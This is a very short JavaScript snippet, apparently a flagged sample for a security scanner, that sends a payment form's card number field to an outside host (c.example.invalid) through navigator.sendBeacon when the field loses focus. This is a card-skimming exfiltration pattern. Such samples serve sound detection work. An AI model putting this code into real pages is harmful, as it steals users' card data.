const number = document.getElementById('cardNumber');
number.addEventListener('blur', () => {
  navigator.sendBeacon('https://c.example.invalid/b', number.value); // gatehouse: flagged
});
